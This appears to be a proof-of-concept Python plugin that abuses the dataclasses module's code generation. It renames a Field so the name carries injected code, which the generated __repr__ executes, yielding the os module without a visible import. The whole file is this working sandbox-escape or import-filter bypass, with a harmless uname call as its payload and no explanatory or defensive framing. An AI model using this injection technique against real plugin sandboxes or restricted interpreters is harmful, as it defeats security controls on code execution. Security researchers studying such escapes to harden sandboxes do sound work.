import dataclasses

U = "_" * 2
BOX = []
X = "(self.BOXREF.append(" + U + "import" + U + "('os')) or '')"
NAME = '"+' + X + '+"'

@dataclasses.dataclass
class Legit:
    a: int = 0

f = dataclasses.fields(Legit)[0]
f.name = NAME                                   # a processed Field, renamed
Base = type("Base", (Legit,), {U + "dataclass_fields" + U: {NAME: f}})
ns = {"__module__": "not-in-sys-modules", "__doc__": "d", "BOXREF": BOX}
D = dataclasses.dataclass(type("D", (Base,), ns), init=False, eq=False)  # own annotations: none

class Plugin:
    def run(self):
        repr(D())
        os = BOX[0]
        return {"os": repr(os), "uname": os.uname().sysname}
